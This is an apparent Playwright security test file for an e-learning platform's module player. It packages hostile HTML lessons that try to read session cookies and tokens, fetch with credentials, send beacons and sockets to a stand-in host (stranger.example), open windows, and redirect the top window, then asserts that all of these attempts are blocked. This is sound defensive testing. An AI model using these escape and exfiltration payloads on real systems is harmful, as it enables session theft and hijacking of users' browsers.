// Content that breaks the rules makes the browser report it, so these stories are not watched for
// reports.
import { expect, type Page, test } from '@playwright/test';
import { framesetOf } from './frameset-package.ts';
import { makeModule } from './make-module.ts';
import { people } from './people.ts';
import { signIn } from './sessions.ts';
import { packageOf } from './small-package.ts';
import { aWork, openCourse } from './work-world.ts';

async function outcomeOf(page: Page, name: string) {
  const [window] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('button', { name: `Förhandsgranska: ${name}` }).click(),
  ]);
  const outcome = window.frameLocator('iframe[title="Modulens innehåll"]').locator('#outcome');
  await expect(outcome).not.toBeEmpty();
  const text = (await outcome.textContent()) ?? '';
  await window.close();
  await expect(page.getByRole('button', { name: `Förhandsgranska: ${name}` })).toBeEnabled();
  return text;
}

/**
 * Attempts of content to open a window or to navigate the lesson window: none may have an effect
 * outside of its frame.
 */
const waysOut = `
    const outside = 'https://stranger.example/';
    const soon = () => new Promise((go) => setTimeout(() => go(''), 300));
    const add = (name, what) => document.documentElement.appendChild(Object.assign(document.createElement(name), what));
    const inFrame = async (what) => { add('iframe', what); return soon(); };
    const code = (script) => '<body><script>' + script + '<' + '/script></body>';
    const opens = code('open("' + outside + '"); top.location = "' + outside + '"');
    const waysOut = {
      'window with an empty name': async () => open(outside, '') ? 'opened' : '',
      'window with a name': async () => open(outside, 'nobody') ? 'opened' : '',
      'window of a document': async () => document.open(outside, 'nobody', '') ? 'opened' : '',
      'link': async () => { add('a', { href: outside, target: '_blank' }).click(); return soon(); },
      'link to an own page': async () => { add('a', { href: location.href, target: 'nobody' }).click(); return soon(); },
      'link that tells nobody': async () => {
        const link = add('a', { href: outside, target: '_blank' });
        link.onclick = (event) => event.stopPropagation();
        link.click(); return soon();
      },
      'link in no document': async () => { Object.assign(document.createElement('a'), { href: outside, target: '_blank' }).click(); return soon(); },
      'event of a link in no document': async () => {
        Object.assign(document.createElement('a'), { href: outside, target: '_blank' }).dispatchEvent(new MouseEvent('click')); return soon();
      },
      'target of the page': async () => {
        const base = add('base', { target: 'nobody' });
        add('a', { href: outside }).click(); await soon(); base.remove(); return '';
      },
      'form that is sent': async () => { add('form', { action: location.pathname, target: '_blank' }).submit(); return soon(); },
      'form that asks to be sent': async () => { add('form', { action: location.pathname, target: '_blank' }).requestSubmit(); return soon(); },
      'button with a target': async () => {
        const form = add('form', { action: location.pathname });
        form.append(Object.assign(document.createElement('button'), { formTarget: '_blank' }));
        form.firstChild.click(); return soon();
      },
      'window of an empty frame': async () => add('iframe', {}).contentWindow.open(outside) ? 'opened' : '',
      'document of an empty frame': async () => add('iframe', {}).contentDocument.defaultView.open(outside) ? 'opened' : '',
      'window of an empty frame, later': async () => { add('iframe', {}); await soon(); return window[window.length - 1].open(outside) ? 'opened' : ''; },
      'written frame': () => inFrame({ srcdoc: opens }),
      'frame of data': () => inFrame({ src: 'data:text/html,' + encodeURIComponent(opens) }),
      'frame of a blob': () => inFrame({ src: URL.createObjectURL(new Blob([opens], { type: 'text/html' })) }),
      'frame with a sandbox of its own': () => inFrame({
        sandbox: 'allow-scripts allow-popups allow-popups-to-escape-sandbox allow-top-navigation', srcdoc: opens,
      }),
      'frame that leads on': () => inFrame({ srcdoc: '<meta http-equiv="refresh" content="0;url=' + outside + '">' }),
      'link to the top': async () => { add('a', { href: outside, target: '_top' }).click(); return soon(); },
      'link of an own page to the top': async () => { add('a', { href: location.href, target: '_top' }).click(); return soon(); },
      'form to the top': async () => { add('form', { action: location.pathname, target: '_top' }).submit(); return soon(); },
      'replaced top': async () => { top.location.replace(location.href); return soon(); },
      'script as an address of the top': async () => { top.location = 'javascript:"<h1>gone</h1>"'; return soon(); },
      'link to a script in the top': async () => { add('a', { href: 'javascript:"<h1>gone</h1>"', target: '_top' }).click(); return soon(); },
      'window of a script': async () => open('javascript:"<h1>new</h1>"') ? 'opened' : '',
      'guard that is stopped': async () => {
        top.navigation.addEventListener('navigate', (event) => event.stopImmediatePropagation(), true);
        top.location = outside; return soon();
      },
      'guard that is replaced': async () => {
        top.Event.prototype.preventDefault = () => {};
        top.String.prototype.startsWith = () => true;
        top.URL = class { origin = top.location.origin; protocol = 'https:' };
        top.document.body.append(Object.assign(top.document.createElement('a'), { href: outside }));
        top.document.body.lastChild.click(); return soon();
      },
    };`;

test('a hostile package reaches nothing outside itself', async ({ page, baseURL }) => {
  const product = baseURL ?? '';
  const content = `http://m1.localhost:${Number(new URL(product).port) + 1}`;
  const name = `Fientlig modul ${Date.now()}`;
  const opened: string[] = [];
  page.context().on('page', (each) => opened.push(each.url()));
  const hostile = `<!doctype html><html lang="sv"><title>Fientlig</title><h1>Fientlig</h1><pre id="outcome"></pre><script>
    const runtime = parent.API_1484_11;
    ${waysOut}
    const tries = {
      'cookie of the product': async () => document.cookie,
      'session of the product': async () => localStorage.getItem('token') || localStorage.getItem('refresh_token') || '',
      'call with the session': () => fetch('${product}/api/Module', { credentials: 'include' }).then((reply) => reply.text()),
      'blind call': () => fetch('${product}/message.json', { mode: 'no-cors' }).then(() => 'sent'),
      'picture from the product': () => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => reject(new Error('stopped'));
        image.src = '${product}/favicon.svg';
      }),
      'page of the product in a frame': () => new Promise((resolve, reject) => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } };
        frame.src = '${product}/';
        setTimeout(() => reject(new Error('stopped')), 2000);
      }),
      'opener': async () => (window.opener || parent.opener || top.opener) ? 'found' : '',
      'another package here': () => fetch('/scorm/p/1/index.html').then((reply) => reply.ok ? reply.text() : Promise.reject(new Error(reply.status))),
      'another package at its host': () => fetch('${content}/scorm/p/1/index.html', { mode: 'no-cors' }).then(() => 'sent'),
      'stranger': () => fetch('https://stranger.example/', { mode: 'no-cors' }).then(() => 'sent'),
      'socket': () => new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://stranger.example/');
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject(new Error('stopped'));
      }),
      'beacon': async () => { let stopped = false; document.addEventListener('securitypolicyviolation', () => { stopped = true; });
        navigator.sendBeacon('https://stranger.example/beacon', 'x'); await new Promise((go) => setTimeout(go, 300)); return stopped ? '' : 'sent'; },
      'form': () => new Promise((resolve, reject) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'form-action' && reject(new Error('stopped')));
        const form = document.body.appendChild(document.createElement('form'));
        form.action = 'https://stranger.example/'; form.target = '_blank'; form.submit();
        setTimeout(() => resolve(''), 500);
      }),
      'service worker': () => navigator.serviceWorker.register('start.html').then(() => 'registered'),
      'window': async () => window.open('https://stranger.example/') ? 'opened' : '',
      'window of the page around it': async () => parent.open('https://stranger.example/') ? 'opened' : '',
      'window of a frame in the page around it': async () => {
        const frame = parent.document.body.appendChild(parent.document.createElement('iframe'));
        return frame.contentWindow.open('https://stranger.example/') ? 'opened' : '';
      },
      'frame without a sandbox': async () => { window.frameElement.removeAttribute('sandbox'); return ''; },
      'link in the page around it': async () => {
        const link = parent.document.body.appendChild(parent.document.createElement('a'));
        link.href = 'https://stranger.example/'; link.click();
        await new Promise((go) => setTimeout(go, 300)); return '';
      },
      'script of the page around it': async () => { parent.eval("location.href = 'https://stranger.example/'"); await new Promise((go) => setTimeout(go, 300)); return ''; },
      ...waysOut,
      'page around it': async () => { top.location.href = '${product}/?taken'; await new Promise((go) => setTimeout(go, 300)); return ''; },
    };
    (async () => {
      const reached = [];
      for (const [what, attempt] of Object.entries(tries)) {
        try { const got = await attempt(); if (got) reached.push(what + ': ' + got); } catch {}
      }
      document.getElementById('outcome').textContent = reached.join('\\n') || 'nothing';
    })();
  </script></html>`;
  await signIn(page, people.superuser);
  await page.context().addCookies([{ name: 'hemlig', value: 'kaka', url: product }]);
  await makeModule(page, name, await packageOf(hostile));
  expect(await outcomeOf(page, name)).toBe('nothing');
  // Only the module's own window.
  expect(opened).toHaveLength(1);
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
});

test('a package reaches outside only where it was allowed', async ({ page: superuser }) => {
  const name = `Nyfiken modul ${Date.now()}`;
  await signIn(superuser, people.superuser);
  const page = `<!doctype html><html lang="sv"><title>Nyfiken</title><h1>Nyfiken</h1><p id="outcome"></p><script>
    const runtime = parent.API_1484_11;
    const seen = (text) => { document.getElementById('outcome').textContent += text + ' '; };
    fetch('https://metrics.gesall-test.example/beacon', { method: 'POST' }).then(() => seen('ut'), () => seen('stopp'));
  </script></html>`;
  await makeModule(superuser, name, await packageOf(page));
  // The external hosts that this test needs.
  await superuser
    .context()
    .route('https://metrics.gesall-test.example/**', (route) =>
      route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'ok' }),
    );

  expect((await outcomeOf(superuser, name)).trim()).toBe('stopp');

  const allow = superuser.getByRole('switch', { name: 'Tillåt metrics.gesall-test.example' });
  await expect(async () => {
    if (await allow.isVisible()) return;
    await superuser.reload();
    expect(await allow.isVisible()).toBe(true);
  }).toPass({ intervals: [500, 1000, 2000, 5000] });
  await expect(superuser.getByText(/Försökt 1 gång,/)).toBeVisible();
  await allow.click({ force: true });
  await expect(allow).toBeChecked();
  // The page polls every half second whether a window is closed, and opens no other before.
  const tries = { intervals: [1000] };
  await expect.poll(async () => (await outcomeOf(superuser, name)).trim(), tries).toBe('ut');

  await superuser.getByLabel('Tillåt ännu en adress').fill('inte en adress');
  await superuser.getByRole('button', { name: 'Tillåt', exact: true }).click();
  await expect(superuser.getByRole('alert')).toBeVisible();
});

test('a hostile frameset, which is in no sandbox, opens no window and leads the lesson window nowhere', async ({
  page,
}) => {
  const opened: string[] = [];
  const menu = `<!doctype html><html lang="sv"><title>Fientlig</title><button>Försök</button><pre id="outcome"></pre><script>
    ${waysOut}
    document.querySelector('button').onclick = async () => {
      const reached = [];
      for (const [what, attempt] of Object.entries(waysOut)) {
        try { const got = await attempt(); if (got) reached.push(what + ': ' + got); } catch {}
      }
      document.getElementById('outcome').textContent = reached.join('\\n') || 'nothing';
    };
  </script></html>`;
  const work = await aWork(
    'Fientliga ramar',
    await framesetOf({
      'meny.html': menu,
      'sida.html': '<!doctype html><title>Sida</title><h1>Sida</h1>',
    }),
  );
  await openCourse(page, work);
  const window = await work.start(page);
  page.context().on('page', (each) => opened.push(each.url()));
  const course = window
    .frameLocator('iframe[title="Modulens innehåll"]')
    .frameLocator('frame[name="menu"]');
  await expect(
    window
      .frameLocator('iframe[title="Modulens innehåll"]')
      .frameLocator('frame[name="page"]')
      .getByRole('heading'),
  ).toHaveText('Sida');
  const left: string[] = [];
  window.on('framenavigated', (frame) => frame.parentFrame() === null && left.push(frame.url()));
  const address = window.url();
  await course.getByRole('button', { name: 'Försök' }).click();
  // A locator would wait for the cancelled navigations.
  const outcome = () =>
    window.frame({ name: 'menu' })?.evaluate(() => document.getElementById('outcome')?.textContent);
  await expect.poll(outcome).toBe('nothing');
  expect(await window.evaluate(() => document.querySelector('h1')?.textContent)).toBe(work.name);
  expect({ opened, left, address: window.url() }).toEqual({ opened: [], left: [], address });
  await window.close();
});

test('what a hostile frameset opens past the guard has no opener to lead, no session and no run', async ({
  page,
  baseURL,
}) => {
  const product = baseURL ?? '';
  // A new frame's window has the browser's own functions until the player finds it.
  const menu = `<!doctype html><html lang="sv"><title>Fientlig</title><pre id="outcome"></pre><script>
    const open = (address) => {
      document.body.append(document.createElement('iframe'));
      return window[window.length - 1].open(new URL(address, location).href);
    };
    const opened = { product: open('${product}/'), own: open('egen.html'), stranger: open('https://stranger.example/') };
    setTimeout(() => {
      const reached = Object.entries(opened).map(([what, window]) => {
        try { return what + ': ' + (window.closed ? 'cut off' : window.document.title); } catch { return what + ': refused'; }
      });
      document.getElementById('outcome').textContent = reached.join(', ');
    }, 3000);
  </script></html>`;
  const own = `<!doctype html><html lang="sv"><title>Egen</title><pre id="outcome"></pre><script>
    fetch('https://stranger.example/', { mode: 'no-cors' }).then(() => 'sent', () => 'stopped').then((sent) => {
      document.getElementById('outcome').textContent = [window.opener === null, localStorage.getItem('token'), document.cookie, sent].join();
    });
  </script></html>`;
  const stranger = `<!doctype html><meta charset="utf-8"><title>Främling</title><script>
    for (const lead of [() => opener.location = 'https://stranger.example/content', () => opener.top.location = 'https://stranger.example/top']) {
      try { lead(); } catch {}
    }
  </script>`;
  const asked: string[] = [];
  await page.context().route('https://stranger.example/**', (route) => {
    asked.push(new URL(route.request().url()).pathname);
    return route.fulfill({ body: stranger, contentType: 'text/html' });
  });
  const work = await aWork(
    'Ramar utan vakt',
    await framesetOf({
      'meny.html': menu,
      'sida.html': '<!doctype html><title>Sida</title>',
      'egen.html': own,
    }),
  );
  await openCourse(page, work);
  const pages: Page[] = [];
  page.context().on('page', (each) => pages.push(each));
  const window = await work.start(page);
  const course = window
    .frameLocator('iframe[title="Modulens innehåll"]')
    .frameLocator('frame[name="menu"]');
  await expect(course.locator('#outcome')).toHaveText(
    'product: cut off, own: cut off, stranger: refused',
  );
  const windowAt = async (address: RegExp) => {
    await expect.poll(() => pages.some((each) => address.test(each.url()))).toBe(true);
    return pages.find((each) => address.test(each.url())) ?? window;
  };
  const ofProduct = await windowAt(new RegExp(`^${product}/`));
  expect(await ofProduct.evaluate(() => globalThis.window.opener)).toBeNull();
  await expect((await windowAt(/egen\.html$/)).locator('#outcome')).toHaveText('true,,,stopped');
  await expect(await windowAt(/stranger/)).toHaveTitle('Främling');
  expect(asked).toEqual(['/']);
  await expect(window.getByRole('heading', { level: 1, name: work.name })).toBeVisible();
  await window.close();
});

test('a lesson window navigated away by a hostile frame has no opener, and the student continues where they were', async ({
  page,
}) => {
  const menu = `<!doctype html><html lang="sv"><title>Fientlig</title><script>
    const api = top.API_1484_11;
    api.Initialize('');
    const kept = api.GetValue('cmi.location');
    api.SetValue('cmi.location', 'sida 7');
    api.SetValue('cmi.exit', 'suspend');
    document.write('<h1>Minns ' + kept + '</h1>');
    // The player does not follow it.
    const hidden = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
    const lead = '<script>top.location = "https://stranger.example/"<' + '/script>';
    if (!kept) hidden.append(Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts allow-top-navigation', srcdoc: lead }));
  </script></html>`;
  await page.context().route('https://stranger.example/**', (route) =>
    route.fulfill({
      body: '<!doctype html><meta charset="utf-8"><title>Främling</title>',
      contentType: 'text/html',
    }),
  );
  const work = await aWork(
    'Bortledd',
    await framesetOf({ 'meny.html': menu, 'sida.html': '<!doctype html><title>Sida</title>' }),
  );
  await openCourse(page, work);
  const window = await work.start(page);
  await expect(window).toHaveTitle('Främling');
  expect(await window.evaluate(() => [globalThis.window.opener, document.referrer])).toEqual([
    null,
    '',
  ]);
  await window.close();
  const again = await work.start(page);
  const course = again
    .frameLocator('iframe[title="Modulens innehåll"]')
    .frameLocator('frame[name="menu"]');
  await expect(course.getByRole('heading')).toHaveText('Minns sida 7');
  await again.close();
});
